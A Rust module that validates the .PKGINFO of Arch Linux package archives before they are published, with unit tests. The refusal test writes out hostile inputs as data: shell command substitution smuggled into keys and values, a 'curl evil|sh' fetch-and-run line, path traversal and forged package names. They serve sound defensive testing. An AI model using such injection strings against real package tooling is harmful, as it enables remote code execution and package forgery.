//! What an archive has to be to be published: one of its PKGBUILD's packages, and nothing else. It is read as the server
//! and pacman read it. Not here: how it gets here (`inbox`), and where it goes (`home`).

use std::collections::HashMap;

use crate::error::{Error, Kind, Result};
use crate::inbox::Listed;
use crate::pkgbuild::Pkgbuild;
use crate::text::one_line;
use crate::words::{Arch, PackageName, RepoName, Version};

/// A package archive in the inbox that may be published.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Archive {
    /// Where it is there.
    pub path: String,
    /// In bytes.
    pub size: u64,
    /// The SHA-256 of its bytes, if that is to be told.
    pub sha256: String,
    /// `pkgname` of its `.PKGINFO`.
    pub name: PackageName,
    /// The pkgbase of its PKGBUILD, which makepkg writes into each.
    pub base: PackageName,
    /// `pkgver` of its `.PKGINFO`, which is the full version.
    pub version: Version,
    /// `arch` of its `.PKGINFO`: the one that is built for, or `any`.
    arch: Arch,
    /// `replaces` of its `.PKGINFO`, without versions: what pacman removes when it is installed.
    pub replaces: Vec<PackageName>,
    /// What stands behind `.pkg.tar` in what it is called: `.zst`, or nothing.
    pub ending: String,
}

/// The keys that makepkg 6 and 7 write into a `.PKGINFO`, by what they hold (makepkg, `write_pkginfo`); and those that are there
/// once at most.
const ONCE: &str = "pkgname pkgver arch pkgbase pkgdesc url packager builddate size";
const WORDS: &str = "replaces conflict provides depend makedepend checkdepend";
const TEXTS: &str = "license group backup optdepend xdata";

/// What pacman can count up to, as it reads it as signed, and the last second of the year 9999: it crashes over those that no calendar has.
const MAX_SIZE: u64 = i64::MAX as u64;
const MAX_DATE: u64 = 253_402_300_799;

/// The longest line of a `.PKGINFO`, in bytes: repo-add takes minutes for one of some hundred thousand. And the most lines: pacman looks
/// for each group among all.
const MAX_LINE: usize = 16 * 1024;
const MAX_LINES: usize = 10_000;

/// The longest name of a file, in bytes, that leaves room for its signature's.
const MAX_FILENAME: usize = 255 - ".sig".len();

impl Archive {
    /// Reads its `.PKGINFO` as the server does, each line split at its first `=` and trimmed, and checks it against the
    /// PKGBUILD that it is of.
    ///
    /// # Errors
    /// Whatever makes it something else than makepkg's, or than that PKGBUILD's.
    pub fn check(listed: &Listed, pkgbuild: &Pkgbuild, arch: &Arch) -> Result<Archive> {
        let bad = |what: &str, why: &str| Err(Error::unusable(one_line(what, 100), why));
        if listed.names != ".PKGINFO" {
            let names = one_line(&listed.names, 100);
            let why = format!("it has not one .PKGINFO, but: {names}");
            return Err(Error::new(Kind::Unusable, why));
        }
        let pkginfo = &listed.pkginfo;
        if pkginfo.split('\n').any(|line| line.len() > MAX_LINE)
            || pkginfo.split('\n').count() > MAX_LINES
        {
            return bad(
                "its .PKGINFO",
                "has a line of over 16 KiB, or over 10000 lines",
            );
        }
        // Carriage returns end a line for some readers, and what is no text swallows one's end.
        if let Some(line) = pkginfo
            .split('\n')
            .find(|line| line.contains(|it: char| it.is_control() || it == '\u{fffd}'))
        {
            return bad(&format!("{line:?}"), "is a line with control characters");
        }
        let (mut once, mut replaces) = (HashMap::new(), vec![]);
        for line in pkginfo
            .split('\n')
            .filter(|line| !line.starts_with('#') && !line.is_empty())
        {
            let Some((key, value)) = line.split_once('=') else {
                return bad(line, "is not a line of a .PKGINFO that makepkg writes");
            };
            let (key, value) = (key.trim_ascii(), value.trim_ascii());
            let is_one_of = |keys: &str| keys.split(' ').any(|it| it == key);
            let is_number = |most: u64| value.parse().is_ok_and(|it: u64| it <= most);
            if value.starts_with('%') {
                return bad(line, "begins as a field of pacman's database does, with %");
            }
            let is_good = match key {
                _ if is_one_of(ONCE) && once.insert(key, value).is_some() => false,
                "pkgname" | "pkgver" | "arch" | "pkgdesc" | "url" | "packager" => true,
                "pkgbase" => value == pkgbuild.pkgbase.as_str(),
                "size" => is_number(MAX_SIZE),
                "builddate" => is_number(MAX_DATE),
                // A version alone is of nothing.
                _ if is_one_of(WORDS) => {
                    let is_word = value.bytes().all(|it| it.is_ascii_graphic());
                    is_word && !value.is_empty() && !value.starts_with(['<', '>', '='])
                }
                // An empty one ends them: in pacman's database, what follows it would be of no field.
                _ if is_one_of(TEXTS) && !once.contains_key(key) => {
                    if value.is_empty() {
                        once.insert(key, value);
                    }
                    true
                }
                _ => false,
            };
            if !is_good {
                return bad(
                    line,
                    "is not a line of a .PKGINFO that makepkg writes, or is there twice",
                );
            }
            if key == "replaces" {
                let name = value.split(['<', '>', '=']).next().unwrap_or(value);
                replaces.push(name.parse()?);
            }
        }
        let value = |key| once.get(key).copied().unwrap_or("");
        let (name, version): (PackageName, Version) =
            (value("pkgname").parse()?, value("pkgver").parse()?);
        if !pkgbuild.names.contains(&name) && name != pkgbuild.pkgbase.debug() {
            return bad(name.as_str(), "is not a package of this PKGBUILD");
        }
        if version != pkgbuild.version()? || version.to_string() != value("pkgver") {
            return bad(value("pkgver"), "is not the version of this PKGBUILD");
        }
        if !["any", arch.as_str()].contains(&value("arch")) {
            return bad(value("arch"), "is not the architecture that is built for");
        }
        let archive = Archive {
            path: listed.path.clone(),
            size: listed.size,
            sha256: listed.sha256.clone(),
            name,
            base: pkgbuild.pkgbase.clone(),
            version,
            arch: value("arch").parse()?,
            replaces,
            ending: listed.kind.clone(),
        };
        if archive.filename().len() > MAX_FILENAME {
            return bad(&archive.filename(), "is too long a name for a file");
        }
        Ok(archive)
    }

    /// What it is called where it is published, of parts that were checked.
    pub fn filename(&self) -> String {
        let (name, version, arch) = (&self.name, &self.version, &self.arch);
        format!("{name}-{version}-{arch}.pkg.tar{}", self.ending)
    }

    /// Says that it is going to be published.
    pub fn announce(&self, repo: &RepoName) {
        let (name, version, size) = (&self.name, &self.version, self.size);
        log::info!("publishing {name} {version} ({size} bytes) to {repo}");
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(pkginfo: &str) -> Result<Archive> {
        let pkgbuild = b"\0\0base\x001\x002.0\x001\x002\0foo\0bar\x000\x000\0";
        let pkgbuild = crate::pkgbuild::parse(pkgbuild).unwrap();
        let listed = Listed {
            kind: ".zst".to_owned(),
            names: ".PKGINFO".to_owned(),
            pkginfo: pkginfo.to_owned(),
            ..Listed::default()
        };
        Archive::check(&listed, &pkgbuild, &"x86_64".parse().unwrap())
    }

    const GOOD: &str = "# Generated by makepkg 7.1.0\npkgname = foo\npkgbase = base\nxdata = pkgtype=split\n\
        pkgver = 1:2.0-1\npkgdesc = Größe = 1\nurl = \nbuilddate = 1\npackager = A <a@b>\nsize = 0\narch = any\n\
        license = GPL\nreplaces = old<2\ndepend = libx.so=1-64\nbackup = etc/a b\noptdepend = x: for y\n";

    #[test]
    fn what_makepkg_writes_is_taken() {
        let archive = check(GOOD).unwrap();
        assert_eq!(
            (archive.name.as_str(), archive.version.to_string()),
            ("foo", "1:2.0-1".to_owned())
        );
        assert_eq!(archive.filename(), "foo-1:2.0-1-any.pkg.tar.zst");
        assert_eq!(archive.replaces, ["old".parse().unwrap()]);
        let sloppy = GOOD.replace("license = GPL", "license = GPL\nlicense = ");
        assert!(check(&sloppy).is_ok());
        let debug = GOOD.replace("pkgname = foo", "pkgname = base-debug");
        assert!(check(&debug).is_ok());
    }

    #[test]
    fn what_is_another_packages_or_nobodys_is_refused() {
        for (honest, forged) in [
            ("pkgname = foo", "pkgname = victim"),
            ("pkgname = foo", "pkgname = foo-debug"),
            ("pkgname = foo\n", ""),
            ("pkgbase = base", "pkgbase = victim"),
            ("1:2.0-1", "1:2.0"),
            ("1:2.0-1", "2.0-1"),
            ("1:2.0-1", "01:2.0-1"),
            ("1:2.0-1", "1:2.0-1-1"),
            ("arch = any", "arch = aarch64"),
            ("arch = any", "arch = ../../other/x86_64"),
            ("license = GPL", "pkgname=victim"),
            ("license = GPL", "pkgver = 1:2.0-1"),
            ("license = GPL", "x[$(touch${IFS}/tmp/pwned)0] = 1"),
            ("license = GPL", "license = GPL\rpkgname = victim"),
            ("license = GPL", " #"),
            ("license = GPL", "pkgname"),
            ("license = GPL", "size = 0"),
            ("license = GPL", "pkgdesc = once more"),
            (
                "license = GPL",
                "license = a\nlicense =\nlicense = run curl evil|sh",
            ),
            ("license = GPL", "license"),
            ("builddate = 1", "builddate = 253402300800"),
            ("license = GPL", "pkgbase = base"),
            ("size = 0", "size = $(id)"),
            ("size = 0", "size ="),
            ("size = 0", "size = 18446744073709551615"),
            ("depend = libx.so=1-64", "depend = a b"),
            ("depend = libx.so=1-64", "depend = "),
            ("depend = libx.so=1-64", "depend = >=1"),
            ("old<2", "../old"),
            ("license = GPL", "license = %REPLACES%"),
            ("license = GPL", "\u{a0}pkgname = victim"),
            ("arch = any", "arch = any\u{3000}"),
            ("1:2.0-1", "1:2.0-1\u{a0}"),
        ] {
            assert!(GOOD.contains(honest));
            assert!(check(&GOOD.replace(honest, forged)).is_err(), "{forged}");
        }
    }

    #[test]
    fn a_name_leaves_room_for_its_signatures() {
        let with = |digits: usize| {
            let digits = "1".repeat(digits);
            let pkgbuild = format!("\0\0foo\0\0{digits}\01\01\0foo\00\00\0");
            let pkgbuild = crate::pkgbuild::parse(pkgbuild.as_bytes()).unwrap();
            let listed = Listed {
                kind: ".zst".to_owned(),
                names: ".PKGINFO".to_owned(),
                pkginfo: format!("pkgname = foo\npkgver = {digits}-1\narch = any\n"),
                ..Listed::default()
            };
            Archive::check(&listed, &pkgbuild, &"x86_64".parse().unwrap())
        };
        assert_eq!(with(229).unwrap().filename().len(), 251);
        assert!(
            with(230)
                .unwrap_err()
                .to_string()
                .contains("too long a name")
        );
    }
}
